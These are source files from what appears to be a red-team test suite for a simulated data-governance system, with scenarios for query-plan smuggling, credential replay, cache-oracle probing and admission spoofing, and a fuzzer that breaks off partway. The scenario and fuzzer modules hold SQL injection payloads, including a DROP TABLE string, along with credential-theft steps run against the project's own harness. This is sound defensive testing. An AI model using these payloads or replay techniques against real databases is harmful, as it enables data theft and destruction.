            "result_puts": self.stats.result_puts,
            "cred_hits": self.stats.cred_hits,
            "cred_puts": self.stats.cred_puts,
            "codec_errors": self.stats.codec_errors,
        }
        out.update(self.store.stats_snapshot())
        return out
