"""Typed attack scenarios and the leak oracle they report through.

An :class:`AttackScenario` is one executable attack: a target layer, a
technique family, the defense expected to contain it, and a ``run``
callable that performs the attack against a live
:class:`~repro.attacks.harness.GauntletHarness` and returns an
:class:`AttackResult`. The result is binary at heart — *contained* or
*leaked* — with leak magnitudes (rows/bytes) so ``attack_stats`` can report
how bad a breach was, not just that one happened.

The leak oracle is string-based on purpose: the harness knows the exact
byte sequences that must never reach an attacker (hidden rows' values, raw
masked values, live credential tokens, the host secret file), and
:func:`find_leaks` scans *everything* the attack observed — result rows,
error messages, captured service payloads — for them. An error message
that embeds a secret is as much a leak as a result row.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Iterable

#: Layers an attack targets (mirrors the repo layout / DESIGN.md chapters).
LAYERS = ("sandbox", "connect", "enforcement", "storage", "store", "scheduler")

#: Technique families the acceptance criteria count (≥ 5 required).
FAMILIES = (
    "udf-probe",
    "plan-smuggling",
    "credential-replay",
    "cache-oracle",
    "admission-spoofing",
    "write-denial",
)


@dataclass(frozen=True)
class AttackResult:
    """Outcome of one scenario run: contained, or leaked by how much."""

    contained: bool
    leaked_rows: int = 0
    leaked_bytes: int = 0
    detail: str = ""


def contained(detail: str = "") -> AttackResult:
    """The stack held: the attack was denied or returned nothing hidden."""
    return AttackResult(contained=True, detail=detail)


def leaked(detail: str, rows: int = 0, bytes_: int = 0) -> AttackResult:
    """The attack got through; record how much crossed the boundary."""
    return AttackResult(
        contained=False, leaked_rows=rows, leaked_bytes=bytes_, detail=detail
    )


@dataclass(frozen=True)
class AttackScenario:
    """One registered, executable attack against the live stack."""

    #: Unique kebab-case identifier; DESIGN.md's threat matrix and
    #: ``system.access.attack_stats`` both key on it.
    name: str
    #: The layer under attack (one of :data:`LAYERS`).
    layer: str
    #: Technique family (one of :data:`FAMILIES`).
    technique: str
    #: What the attack attempts, in one or two sentences.
    description: str
    #: The defense expected to stop it (names the mechanism, not a wish).
    expected_containment: str
    #: Execute the attack against a live harness and judge the outcome.
    run: Callable[[Any], AttackResult] = field(compare=False)

    def __post_init__(self) -> None:
        if self.layer not in LAYERS:
            raise ValueError(f"unknown layer '{self.layer}'; one of {LAYERS}")
        if self.technique not in FAMILIES:
            raise ValueError(
                f"unknown technique '{self.technique}'; one of {FAMILIES}"
            )


def _stringify(payload: Any) -> str:
    """Flatten anything an attack observed into one scannable string."""
    if payload is None:
        return ""
    if isinstance(payload, (bytes, bytearray)):
        return payload.decode("utf-8", errors="replace")
    if isinstance(payload, str):
        return payload
    if isinstance(payload, dict):
        return " ".join(
            f"{_stringify(k)}={_stringify(v)}" for k, v in payload.items()
        )
    if isinstance(payload, (list, tuple, set, frozenset)):
        return " ".join(_stringify(v) for v in payload)
    if isinstance(payload, BaseException):
        return f"{type(payload).__name__}: {payload}"
    return str(payload)


def find_leaks(observed: Any, forbidden: Iterable[str]) -> list[str]:
    """Every forbidden token present anywhere in what the attack observed."""
    haystack = _stringify(observed)
    return sorted({token for token in forbidden if token and token in haystack})


def judge(observed: Any, forbidden: Iterable[str], detail: str) -> AttackResult:
    """Contained iff none of the forbidden tokens reached the attacker."""
    leaks = find_leaks(observed, forbidden)
    if leaks:
        return leaked(
            f"{detail}: leaked tokens {leaks}",
            rows=len(leaks),
            bytes_=sum(len(t) for t in leaks),
        )
    return contained(detail)
