"""Hand-crafted Connect plans that try to slip around the analyzer.

The Connect wire protocol accepts arbitrary dict trees; nothing stops an
attacker from skipping the client DSL and mailing the server whatever plan
they like. These scenarios do exactly that: raw reads without privileges,
user predicates hunting pre-mask values, ``SecureView`` unwrap attempts
through alias nesting, ``expr.sql`` injection payloads, and malformed
protos designed to crash the decoder into some permissive fallback.
"""

from __future__ import annotations

from typing import Any

import cloudpickle

from repro.attacks import harness as h
from repro.attacks.registry import attack_scenario
from repro.attacks.scenario import AttackResult, contained, judge, leaked
from repro.connect import proto
from repro.errors import LakeguardError, PermissionDenied


@attack_scenario(
    name="plan-raw-read-unauthorized",
    layer="connect",
    technique="plan-smuggling",
    expected_containment="resolution authorizes every table reference "
    "against the catalog regardless of how the plan arrived "
    "(PermissionDenied)",
)
def plan_raw_read_unauthorized(gauntlet: Any) -> AttackResult:
    """Mallory mails a hand-built read of the governed table, no DSL."""
    for table in (h.ORDERS, h.SALARIES):
        try:
            rows = gauntlet.collect("mallory", proto.read_table(table))
            return leaked(f"raw read of {table} returned {len(rows)} rows")
        except PermissionDenied as exc:
            leak = judge(exc, gauntlet.forbidden_tokens(), "")
            if not leak.contained:
                return leak
        except LakeguardError as exc:
            return leaked(f"expected PermissionDenied for {table}, got {exc!r}")
    return contained("raw reads denied for both tables")


@attack_scenario(
    name="plan-filter-pushdown-probe",
    layer="enforcement",
    technique="plan-smuggling",
    expected_containment="SecureView barrier keeps user predicates above "
    "the injected row filter and masks: the probe predicate only ever "
    "sees masked values",
)
def plan_filter_pushdown_probe(gauntlet: Any) -> AttackResult:
    """A UDF predicate returns True only if it saw an unmasked secret."""
    hunt = proto.python_udf(
        "hunt",
        "bool",
        cloudpickle.dumps(lambda buyer: "SECRET" in buyer or "RAW-" in buyer),
        [proto.column("buyer")],
    )
    relation = proto.filter_relation(proto.read_table(h.ORDERS), hunt)
    try:
        rows = gauntlet.collect("alice", relation)
    except LakeguardError as exc:
        return judge(exc, gauntlet.forbidden_tokens(), "probe predicate refused")
    if rows:
        return leaked(
            f"predicate observed pre-mask values on {len(rows)} rows",
            rows=len(rows),
        )
    return contained("predicate matched nothing: it only saw masked values")


@attack_scenario(
    name="plan-secureview-unwrap",
    layer="enforcement",
    technique="plan-smuggling",
    expected_containment="filters and masks are injected below the "
    "SecureView during resolution; alias nesting above it cannot reach "
    "the unmasked scan",
)
def plan_secureview_unwrap(gauntlet: Any) -> AttackResult:
    """Alias/star nesting tries to re-select the raw column under the view."""
    inner = proto.subquery_alias(proto.read_table(h.ORDERS), "raw")
    widened = proto.project(inner, [proto.star()])
    relation = proto.project(
        proto.subquery_alias(widened, "x"),
        [proto.column("buyer"), proto.column("region")],
    )
    try:
        rows = gauntlet.collect("alice", relation)
    except LakeguardError as exc:
        return judge(exc, gauntlet.forbidden_tokens(), "unwrap refused")
    regions = {r[1] for r in rows}
    buyers = {r[0] for r in rows}
    if regions - {"US"} or buyers - {"***"}:
        return leaked(
            f"unwrap saw regions={sorted(regions)} buyers={sorted(buyers)}",
            rows=len(rows),
        )
    return judge(rows, gauntlet.forbidden_tokens(), "view stayed wrapped")


@attack_scenario(
    name="plan-sql-expr-injection",
    layer="connect",
    technique="plan-smuggling",
    expected_containment="raw expr.sql fragments are parsed as expressions "
    "over the governed (already filtered/masked) relation; injection "
    "payloads either fail to parse or see only visible rows",
)
def plan_sql_expr_injection(gauntlet: Any) -> AttackResult:
    """Classic injection payloads ride an expr.sql filter condition."""
    payloads = (
        "buyer LIKE '%SECRET%'",
        "1 = 1 OR region <> 'US'",
        "region = 'US') OR ('1' = '1",
        "region = 'US' UNION SELECT person FROM main.sales.salaries",
    )
    visible = set(gauntlet.VISIBLE_ORDERS)
    for payload in payloads:
        relation = proto.filter_relation(
            proto.read_table(h.ORDERS), proto.sql_expr(payload)
        )
        try:
            rows = gauntlet.collect("alice", relation)
        except LakeguardError as exc:
            leak = judge(exc, gauntlet.forbidden_tokens(), "")
            if not leak.contained:
                return leak
            continue
        extra = set(rows) - visible
        if extra:
            return leaked(
                f"payload {payload!r} surfaced hidden rows {sorted(extra)}",
                rows=len(extra),
            )
        leak = judge(rows, gauntlet.forbidden_tokens(), "")
        if not leak.contained:
            return leak
    return contained("every payload parsed to nothing beyond the visible rows")


@attack_scenario(
    name="plan-malformed-proto",
    layer="connect",
    technique="plan-smuggling",
    expected_containment="malformed plans fail with typed errors "
    "(ProtocolError/AnalysisError/ParseError) and the service keeps "
    "serving subsequent queries",
)
def plan_malformed_proto(gauntlet: Any) -> AttackResult:
    """Type-confused and truncated protos hunt for a permissive fallback."""
    malformed: tuple[dict, ...] = (
        {"@type": "relation.evil", "table": h.ORDERS},
        {"@type": "relation.read"},
        {"@type": "relation.filter", "input": proto.read_table(h.ORDERS),
         "condition": "region = 'US'"},
        {"@type": "relation.project", "input": proto.read_table(h.ORDERS),
         "expressions": 42},
        proto.filter_relation({"@type": "relation.sql", "query": 17},
                              proto.literal(True)),
    )
    for plan in malformed:
        try:
            rows = gauntlet.collect("mallory", plan)
            return leaked(f"malformed plan {plan.get('@type')} returned {rows}")
        except LakeguardError as exc:
            leak = judge(exc, gauntlet.forbidden_tokens(), "")
            if not leak.contained:
                return leak
    # The service must still be alive and correct afterwards.
    rows = gauntlet.client_for("alice").table(h.ORDERS).collect()
    if set(rows) != set(gauntlet.VISIBLE_ORDERS):
        return leaked(f"service degraded after malformed plans: {rows}")
    return contained("all malformed plans rejected; service kept serving")
