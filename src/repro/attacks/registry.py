"""The attack registry and its ``system.access.attack_stats`` bookkeeping.

Scenario modules register themselves at import time through the
:func:`attack_scenario` decorator; :func:`load_all_scenarios` imports every
module so the registry is complete before a gauntlet run. The registry is
the single source of truth three consumers diff against:

- ``tests/test_attack_gauntlet.py`` parametrizes over it (every scenario
  must run, every run must be contained);
- DESIGN.md §12's threat matrix must name every scenario
  (``tests/test_documentation.py`` enforces it);
- :class:`AttackStatsBook` mirrors it into per-scenario counters behind
  the admin-only ``system.access.attack_stats`` table.
"""

from __future__ import annotations

import threading
from typing import Any, Callable

from repro.attacks.scenario import AttackResult, AttackScenario

_REGISTRY: dict[str, AttackScenario] = {}

#: Scenario modules imported by :func:`load_all_scenarios`; adding a module
#: here is all it takes for its scenarios to enter CI, the stats table and
#: the documentation drift check.
_SCENARIO_MODULES = (
    "repro.attacks.udf_probes",
    "repro.attacks.plan_smuggling",
    "repro.attacks.credential_replay",
    "repro.attacks.cache_oracle",
    "repro.attacks.admission_spoofing",
    "repro.attacks.write_denial",
)


def attack_scenario(
    name: str, layer: str, technique: str, expected_containment: str
) -> Callable[[Callable[[Any], AttackResult]], Callable[[Any], AttackResult]]:
    """Decorator: register the function as a scenario's ``run`` callable.

    The function's docstring becomes the scenario description, so each
    attack documents itself exactly once.
    """

    def register(fn: Callable[[Any], AttackResult]) -> Callable[[Any], AttackResult]:
        if name in _REGISTRY:
            raise ValueError(f"attack scenario '{name}' registered twice")
        _REGISTRY[name] = AttackScenario(
            name=name,
            layer=layer,
            technique=technique,
            description=(fn.__doc__ or "").strip().split("\n")[0],
            expected_containment=expected_containment,
            run=fn,
        )
        return fn

    return register


def load_all_scenarios() -> tuple[AttackScenario, ...]:
    """Import every scenario module, then return the full registry."""
    import importlib

    for module in _SCENARIO_MODULES:
        importlib.import_module(module)
    return all_scenarios()


def all_scenarios() -> tuple[AttackScenario, ...]:
    """Every registered scenario, ordered by name."""
    return tuple(_REGISTRY[name] for name in sorted(_REGISTRY))


def scenario_names() -> tuple[str, ...]:
    """Registered scenario names, sorted (the drift test's ground truth)."""
    return tuple(sorted(_REGISTRY))


def get_scenario(name: str) -> AttackScenario:
    """Look up one scenario by name."""
    return _REGISTRY[name]


def technique_families() -> set[str]:
    """The distinct technique families currently registered."""
    return {s.technique for s in _REGISTRY.values()}


class AttackStatsBook:
    """Per-scenario outcome counters behind ``system.access.attack_stats``.

    One book per gauntlet run. Each scenario's counters are registered as
    their own provider with the catalog, so the system table reports
    ``(scenario, metric, value)`` rows keyed by scenario name.
    """

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._counters: dict[str, dict[str, float]] = {}

    def record(self, name: str, result: AttackResult) -> None:
        """Fold one scenario outcome into the counters."""
        with self._lock:
            counters = self._counters.setdefault(
                name,
                {
                    "runs": 0.0,
                    "contained": 0.0,
                    "leaks": 0.0,
                    "leaked_rows": 0.0,
                    "leaked_bytes": 0.0,
                },
            )
            counters["runs"] += 1
            if result.contained:
                counters["contained"] += 1
            else:
                counters["leaks"] += 1
                counters["leaked_rows"] += result.leaked_rows
                counters["leaked_bytes"] += result.leaked_bytes

    def snapshot(self, name: str) -> dict[str, float]:
        """Counters for one scenario (zeros before its first run)."""
        with self._lock:
            counters = self._counters.get(name)
            return dict(counters) if counters else {"runs": 0.0}

    def provider_for(self, name: str) -> Callable[[], dict[str, float]]:
        """A stats provider bound to one scenario, for catalog registration."""
        return lambda: self.snapshot(name)

    def total_leaks(self) -> int:
        """Leak count across every scenario (the gauntlet's pass/fail)."""
        with self._lock:
            return int(sum(c.get("leaks", 0.0) for c in self._counters.values()))


def run_scenario(harness: Any, scenario: AttackScenario) -> AttackResult:
    """Execute one scenario against the harness and record its outcome."""
    result = scenario.run(harness)
    harness.stats.record(scenario.name, result)
    return result
