"""Credential theft and replay against the vended-credential model.

Lakeguard's storage access rides short-lived vended credentials. These
scenarios steal real credential objects (the harness plays the omniscient
attacker) and replay them: after revocation, across storage prefixes, after
expiry, and from compute that is never allowed raw bytes at all. The one
replay the model does *not* stop — a live token reused within its TTL from
inside the same trust boundary — is a documented known gap (DESIGN.md §12),
exactly as bearer tokens behave against real object stores.
"""

from __future__ import annotations

from typing import Any

from repro.attacks import harness as h
from repro.attacks.registry import attack_scenario
from repro.attacks.scenario import AttackResult, contained, judge, leaked
from repro.errors import CredentialError, PermissionDenied, StorageAccessDenied
from repro.storage.credentials import LIST, READ


def _steal_live_credential(gauntlet: Any, identity: str) -> Any:
    """Force a vend for ``identity`` and capture the credential object."""
    gauntlet.client_for(identity).table(h.ORDERS).collect()
    live = gauntlet.catalog.vendor.live_credentials(identity)
    if not live:
        raise AssertionError(f"no live credential to steal for {identity}")
    return live[-1]


@attack_scenario(
    name="credential-replay-after-revoke",
    layer="storage",
    technique="credential-replay",
    expected_containment="the object store validates liveness with the "
    "issuing vendor on every access: a revoked credential object replays "
    "to CredentialError, immediately",
)
def credential_replay_after_revoke(gauntlet: Any) -> AttackResult:
    """A stolen credential is replayed after the admin revokes the identity."""
    stolen = _steal_live_credential(gauntlet, "alice")
    store = gauntlet.catalog.store
    prefix = stolen.prefixes[0]
    # Recon while still live: the capability genuinely worked before revoke.
    paths = store.list(prefix, stolen)
    gauntlet.catalog.vendor.revoke_identity("alice")
    try:
        for operation in ("list", "get"):
            try:
                if operation == "list":
                    store.list(prefix, stolen)
                else:
                    store.get(paths[0], stolen)
                return leaked(f"revoked credential still authorized {operation}")
            except CredentialError as exc:
                leak = judge(exc, gauntlet.static_secrets, "")
                if not leak.contained:
                    return leak
        return contained("revoked credential refused for list and get")
    finally:
        # Later queries re-vend transparently; nothing to restore.
        pass


@attack_scenario(
    name="credential-replay-expired",
    layer="storage",
    technique="credential-replay",
    expected_containment="credential expiry is checked on every storage "
    "operation; an expired capability replays to StorageAccessDenied",
)
def credential_replay_expired(gauntlet: Any) -> AttackResult:
    """A credential captured long ago (TTL elapsed) is replayed verbatim."""
    table = gauntlet.catalog.get_table(h.ORDERS)
    expired = gauntlet.catalog.vendor.issue(
        identity="mallory",
        prefixes=[table.storage_root],
        operations={READ, LIST},
        ttl_seconds=0.0,
    )
    store = gauntlet.catalog.store
    try:
        paths = store.list(table.storage_root, expired)
        return leaked(f"expired credential listed {len(paths)} objects")
    except (StorageAccessDenied, CredentialError) as exc:
        return judge(exc, gauntlet.static_secrets, "expired credential refused")


@attack_scenario(
    name="credential-cross-prefix-escalation",
    layer="storage",
    technique="credential-replay",
    expected_containment="credentials are prefix-scoped capabilities: a "
    "credential vended for one table cannot touch another table's storage "
    "root (StorageAccessDenied)",
)
def credential_cross_prefix_escalation(gauntlet: Any) -> AttackResult:
    """Alice's orders credential is aimed at the admin-only salaries prefix."""
    stolen = _steal_live_credential(gauntlet, "alice")
    salaries_root = gauntlet.catalog.get_table(h.SALARIES).storage_root
    store = gauntlet.catalog.store
    try:
        paths = store.list(salaries_root, stolen)
        return leaked(f"cross-prefix list returned {len(paths)} objects")
    except StorageAccessDenied as exc:
        return judge(exc, gauntlet.static_secrets, "cross-prefix use refused")


@attack_scenario(
    name="credential-vend-refusal-efgac",
    layer="storage",
    technique="credential-replay",
    expected_containment="vending refuses compute that cannot enforce FGAC "
    "locally: privileged compute never receives a raw-bytes capability "
    "for a governed table (PermissionDenied)",
)
def credential_vend_refusal_efgac(gauntlet: Any) -> AttackResult:
    """Privileged (dedicated-style) compute requests the governed bytes."""
    from repro.catalog.scopes import COMPUTE_DEDICATED, ComputeCapabilities

    rogue_caps = ComputeCapabilities(
        compute_id="rogue-dedicated", compute_type=COMPUTE_DEDICATED
    )
    ctx = gauntlet.catalog.principals.context_for("alice")
    try:
        credential = gauntlet.catalog.vend_credential(
            ctx, h.ORDERS, {READ, LIST}, rogue_caps
        )
        return leaked(
            f"privileged compute was vended raw access ({credential.token})"
        )
    except PermissionDenied as exc:
        return judge(exc, gauntlet.static_secrets, "cross-trust-domain vend refused")
