"""Cache-oracle probes against the plan and governed-result caches.

Caching layers are classic FGAC bypass surfaces: a cache keyed too
coarsely serves one principal's bytes to another, and a cache keyed by
hash alone accepts forged entries on fingerprint collisions. These
scenarios warm the caches as one principal and then probe them as
another, after revocation, and with deliberately colliding plans, using
the cache hit counters themselves as the oracle.
"""

from __future__ import annotations

from typing import Any

from repro.attacks import harness as h
from repro.attacks.registry import attack_scenario
from repro.attacks.scenario import AttackResult, contained, judge, leaked
from repro.connect import proto
from repro.core.plan_cache import fingerprint_relation
from repro.errors import LakeguardError, PermissionDenied


def _plan_hits(gauntlet: Any) -> int:
    return int(gauntlet.cluster.backend.plan_cache.stats_snapshot()["hits"])


def _result_stats(gauntlet: Any) -> dict[str, Any]:
    return gauntlet.cluster.backend.result_cache.stats_snapshot()


@attack_scenario(
    name="cache-plan-cross-principal-denied",
    layer="store",
    technique="cache-oracle",
    expected_containment="the plan-cache key includes user, principal "
    "closure and policy epoch: another principal's identical plan misses "
    "the cache and authorization still runs (PermissionDenied)",
)
def cache_plan_cross_principal_denied(gauntlet: Any) -> AttackResult:
    """Mallory replays alice's exact warmed plan, hunting a cached grant."""
    relation = proto.read_table(h.ORDERS)
    gauntlet.collect("alice", relation)
    gauntlet.collect("alice", relation)  # warmed: second run may hit
    hits_before = _plan_hits(gauntlet)
    try:
        rows = gauntlet.collect("mallory", relation)
        return leaked(
            f"mallory rode alice's cached plan to {len(rows)} rows",
            rows=len(rows),
        )
    except PermissionDenied as exc:
        if _plan_hits(gauntlet) != hits_before:
            return leaked("mallory's request hit alice's plan-cache entry")
        return judge(exc, gauntlet.forbidden_tokens(), "cross-principal miss + denial")


@attack_scenario(
    name="cache-result-cross-principal-isolation",
    layer="store",
    technique="cache-oracle",
    expected_containment="result-cache keys bind the requesting user: an "
    "identical query from another analyst cannot be served alice's bytes",
)
def cache_result_cross_principal_isolation(gauntlet: Any) -> AttackResult:
    """Carol replays alice's warmed query; the hit counter is the oracle."""
    relation = proto.read_table(h.ORDERS)
    gauntlet.collect("alice", relation)
    gauntlet.collect("alice", relation)  # alice's own rerun may hit
    hits_before = int(_result_stats(gauntlet)["hits"])
    rows = gauntlet.collect("carol", relation)
    hits_after = int(_result_stats(gauntlet)["hits"])
    if hits_after != hits_before:
        return leaked("carol's first-ever run was served from alice's entry")
    if set(rows) != set(gauntlet.VISIBLE_ORDERS):
        return leaked(f"carol saw unexpected rows {sorted(rows)}", rows=len(rows))
    return judge(rows, gauntlet.forbidden_tokens(), "carol missed and recomputed")


@attack_scenario(
    name="cache-result-stale-after-revoke",
    layer="store",
    technique="cache-oracle",
    expected_containment="revocation bumps the policy epoch, which is part "
    "of every cache key: warm result bytes become unreachable and the "
    "query re-authorizes to PermissionDenied",
)
def cache_result_stale_after_revoke(gauntlet: Any) -> AttackResult:
    """Alice replays her own warmed query after her grant is revoked."""
    relation = proto.read_table(h.ORDERS)
    admin = gauntlet.client_for("admin")
    gauntlet.collect("alice", relation)
    gauntlet.collect("alice", relation)  # bytes for this query are now warm
    admin.sql(f"REVOKE SELECT ON {h.ORDERS} FROM analysts")
    try:
        try:
            rows = gauntlet.collect("alice", relation)
            return leaked(
                f"revoked analyst was served {len(rows)} warm cached rows",
                rows=len(rows),
            )
        except PermissionDenied as exc:
            leak = judge(exc, gauntlet.forbidden_tokens(), "")
            if not leak.contained:
                return leak
    finally:
        admin.sql(f"GRANT SELECT ON {h.ORDERS} TO analysts")
    rows = gauntlet.collect("alice", relation)
    if set(rows) != set(gauntlet.VISIBLE_ORDERS):
        return leaked(f"post-regrant rows wrong: {sorted(rows)}")
    return contained("warm cache unreachable after revoke; re-grant restores")


@attack_scenario(
    name="cache-fingerprint-collision-forgery",
    layer="store",
    technique="cache-oracle",
    expected_containment="the plan cache compares the full relation on "
    "lookup (hash-then-compare), so canonicalization collisions "
    "(bytes b'x' vs the string \"b'x'\") cannot forge a hit",
)
def cache_fingerprint_collision_forgery(gauntlet: Any) -> AttackResult:
    """Two distinct plans with *identical* fingerprints race for one slot.

    ``fingerprint_relation`` serializes non-JSON leaves via ``str``, so a
    ``bytes`` payload and its ``repr`` string canonicalize identically.
    The decoder ignores unknown relation keys, which lets the colliding
    payloads ride an inert ``hint`` key without changing semantics.
    """
    base = proto.read_table(h.ORDERS)
    plan_bytes = dict(base, hint=b"probe")
    plan_str = dict(base, hint="b'probe'")
    if fingerprint_relation(plan_bytes) != fingerprint_relation(plan_str):
        return contained(
            "canonicalization no longer collides bytes with their repr; "
            "the forgery precondition is gone"
        )
    try:
        gauntlet.collect("alice", plan_bytes)
        gauntlet.collect("alice", plan_bytes)
    except LakeguardError as exc:
        return judge(exc, gauntlet.forbidden_tokens(), "colliding plan refused")
    hits_before = _plan_hits(gauntlet)
    gauntlet.collect("alice", plan_bytes)  # genuine replay: hit allowed
    sane_hits = _plan_hits(gauntlet)
    rows = gauntlet.collect("alice", plan_str)  # forged twin: must miss
    if _plan_hits(gauntlet) > sane_hits:
        return leaked("forged twin plan was served from the colliding entry")
    if sane_hits == hits_before:
        return contained(
            "plan cache never hit (result cache short-circuits replays); "
            "no forged entry was served either"
        )
    leak = judge(rows, gauntlet.forbidden_tokens(), "")
    if not leak.contained:
        return leak
    return contained("identical replay hit, colliding twin missed")
