"""Admission-lane spoofing against the workload manager's system lane.

``system.*`` introspection reads bypass admission throttling entirely, so
the lane classifier is itself an attack surface: anything that tricks it
into the system lane gets an unthrottled, unshed execution slot. These
scenarios try every spoof the classifier is supposed to shrug off —
``system.``-looking literals in relational and SQL plans, config-claimed
lanes, and mixed joins — with the manager's ``system_bypass`` counter as
the oracle.
"""

from __future__ import annotations

from typing import Any

from repro.attacks import harness as h
from repro.attacks.registry import attack_scenario
from repro.attacks.scenario import AttackResult, contained, judge, leaked
from repro.connect import proto
from repro.errors import LakeguardError


def _bypass_count(gauntlet: Any) -> int:
    return int(gauntlet.cluster.workload_manager.stats_snapshot()["system_bypass"])


@attack_scenario(
    name="admission-literal-lane-spoof",
    layer="scheduler",
    technique="admission-spoofing",
    expected_containment="lane classification resolves table references "
    "structurally; a 'system.' string inside a literal never routes the "
    "query onto the unthrottled system lane",
)
def admission_literal_lane_spoof(gauntlet: Any) -> AttackResult:
    """A filter literal dresses an ordinary scan up as introspection."""
    # Sanity: the bypass lane genuinely exists for real system reads.
    gauntlet.collect("admin", proto.read_table("system.access.audit"))
    if _bypass_count(gauntlet) == 0:
        return leaked("system lane never engaged; the bypass oracle is dead")
    before = _bypass_count(gauntlet)
    relation = proto.filter_relation(
        proto.read_table(h.ORDERS),
        proto.binary(
            "=", proto.column("region"), proto.literal("system.access.audit")
        ),
    )
    rows = gauntlet.collect("alice", relation)
    if _bypass_count(gauntlet) != before:
        return leaked("literal 'system.' string bypassed admission")
    return judge(rows, gauntlet.forbidden_tokens(), "literal spoof stayed throttled")


@attack_scenario(
    name="admission-sql-literal-lane-spoof",
    layer="scheduler",
    technique="admission-spoofing",
    expected_containment="SQL plans classify by AST table nodes, not text: "
    "quoted 'system.' fragments in predicates stay on admitted lanes",
)
def admission_sql_literal_lane_spoof(gauntlet: Any) -> AttackResult:
    """The same spoof rides a SQL string instead of a relation tree."""
    before = _bypass_count(gauntlet)
    rows = gauntlet.collect(
        "alice",
        proto.sql_relation(
            f"SELECT id FROM {h.ORDERS} "
            "WHERE buyer = 'system.access.cache_stats'"
        ),
    )
    if _bypass_count(gauntlet) != before:
        return leaked("SQL literal 'system.' fragment bypassed admission")
    return judge(rows, gauntlet.forbidden_tokens(), "SQL spoof stayed throttled")


@attack_scenario(
    name="admission-config-lane-spoof",
    layer="scheduler",
    technique="admission-spoofing",
    expected_containment="session config can pick interactive or batch "
    "only; a config-claimed 'system' lane is forced back to interactive",
)
def admission_config_lane_spoof(gauntlet: Any) -> AttackResult:
    """Mallory sets workload.lane=system in session config and queries."""
    client = gauntlet.client_for("mallory")
    client.set_config(**{"workload.lane": "system"})
    try:
        before = _bypass_count(gauntlet)
        rows = gauntlet.collect(
            "mallory",
            proto.local_relation([{"name": "x", "type": "int"}], [[1, 2, 3]]),
        )
        if _bypass_count(gauntlet) != before:
            return leaked("config-claimed system lane bypassed admission")
    finally:
        client.set_config(**{"workload.lane": "interactive"})
    return judge(rows, gauntlet.forbidden_tokens(), "claimed lane demoted")


@attack_scenario(
    name="admission-mixed-join-spoof",
    layer="scheduler",
    technique="admission-spoofing",
    expected_containment="the system lane requires *every* referenced "
    "table to be system.*; joining governed data against a system table "
    "keeps the query on admitted lanes",
)
def admission_mixed_join_spoof(gauntlet: Any) -> AttackResult:
    """A join smuggles a governed scan alongside a system-table read."""
    before = _bypass_count(gauntlet)
    join = {
        "@type": "relation.join",
        "left": proto.read_table("system.access.audit"),
        "right": proto.read_table(h.ORDERS),
        "how": "inner",
        "condition": None,
    }
    try:
        gauntlet.collect("admin", proto.limit(join, 1))
    except LakeguardError:
        # Admission ran before analysis; a typed analysis error is fine.
        pass
    if _bypass_count(gauntlet) != before:
        return leaked("mixed join was admitted on the system lane")
    return contained("mixed plan stayed on admitted lanes")
