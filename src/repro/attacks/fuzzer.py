"""Hypothesis-based red-team fuzzer for the Connect enforcement plane.

Registered scenarios encode attacks we already thought of; the fuzzer
hunts for the ones we did not. It generates arbitrary Connect plan trees —
valid ones, injection-laced ones, and structurally mangled ones — and runs
each against the live gauntlet cluster under a single **leak oracle**:

    Any row or byte visible to principal A that a fresh, fault-free run
    of the same plan as A does not return is a failure. Typed
    ``LakeguardError`` refusals are containment; any *other* exception
    is an attacker-reachable crash and also a failure.

The reference run happens on a cache-free twin cluster sharing the same
catalog (:meth:`GauntletHarness.reference_client_for`), so cached state on
the attacked cluster can never launder extra rows past the oracle.
Counterexamples serialize to JSON and land in ``tests/attack_corpus/``,
which tier-1 replays as deterministic regression cases forever after.
"""

from __future__ import annotations

import json
import os
import re
from dataclasses import dataclass
from typing import Any

from repro.errors import LakeguardError

#: Columns that exist on the governed table, plus ones that do not —
#: the fuzzer should exercise both resolution successes and failures.
_COLUMNS = ("id", "region", "amount", "buyer", "nope", "salary")

#: Literal pool: benign values, ``system.``-lane bait, quote-breakers and
#: SQL fragments that would change semantics if anything ever re-parsed a
#: literal as code.
_LITERALS = (
    0,
    1,
    -1,
    3.5,
    True,
    None,
    "US",
    "***",
    "system.access.audit",
    "'; DROP TABLE main.sales.orders; --",
    "x' OR '1'='1",
    "system.",
)

_SQL_FRAGMENTS = (
    "region = 'US'",
    "amount > 0",
    "buyer LIKE '%SECRET%'",
    "1 = 1 OR region <> 'US'",
    "region = 'US') OR ('1' = '1",
    "id IN (SELECT id FROM main.sales.salaries)",
)

_SQL_QUERIES = (
    "SELECT * FROM main.sales.orders",
    "SELECT buyer, region FROM main.sales.orders WHERE amount > 5",
    "SELECT person FROM main.sales.salaries",
    "SELECT * FROM system.access.audit",
    "SELECT id FROM main.sales.orders WHERE buyer = 'system.access.audit'",
)

_BINARY_OPS = ("=", "<", ">", "+", "-", "*", "and", "or")


def expression_strategy() -> Any:
    """Strategy producing Connect expression dicts (JSON-serializable)."""
    from hypothesis import strategies as st

    column = st.sampled_from(_COLUMNS).map(
        lambda c: {"@type": "expr.column", "name": c}
    )
    literal = st.sampled_from(_LITERALS).map(
        lambda v: {"@type": "expr.literal", "value": v}
    )
    sql = st.sampled_from(_SQL_FRAGMENTS).map(
        lambda s: {"@type": "expr.sql", "text": s}
    )
    base = st.one_of(column, literal, sql)

    def extend(children: Any) -> Any:
        binary = st.tuples(
            st.sampled_from(_BINARY_OPS), children, children
        ).map(
            lambda t: {
                "@type": "expr.binary",
                "op": t[0],
                "left": t[1],
                "right": t[2],
            }
        )
        case = st.tuples(children, children, children).map(
            lambda t: {
                "@type": "expr.case",
                "branches": [[t[0], t[1]]],
                "otherwise": t[2],
            }
        )
        return st.one_of(binary, case)

    return st.recursive(base, extend, max_leaves=6)


def relation_strategy() -> Any:
    """Strategy producing Connect relation dicts: valid trees, governed and
    system-table reads, SQL plans, and structural mutations (dropped keys,
    wrong value types, unknown ``@type``)."""
    from hypothesis import strategies as st

    read = st.sampled_from(
        (
            "main.sales.orders",
            "main.sales.salaries",
            "system.access.audit",
            "main.sales.missing",
        )
    ).map(lambda t: {"@type": "relation.read", "table": t})
    sql = st.sampled_from(_SQL_QUERIES).map(
        lambda q: {"@type": "relation.sql", "query": q}
    )
    local = st.just(
        {
            "@type": "relation.local",
            "schema": [{"name": "k", "type": "string"}],
            "columns": [["system.access.audit", "x"]],
        }
    )
    base = st.one_of(read, sql, local)
    expr = expression_strategy()

    def wrap(children: Any) -> Any:
        filt = st.tuples(children, expr).map(
            lambda t: {"@type": "relation.filter", "input": t[0], "condition": t[1]}
        )
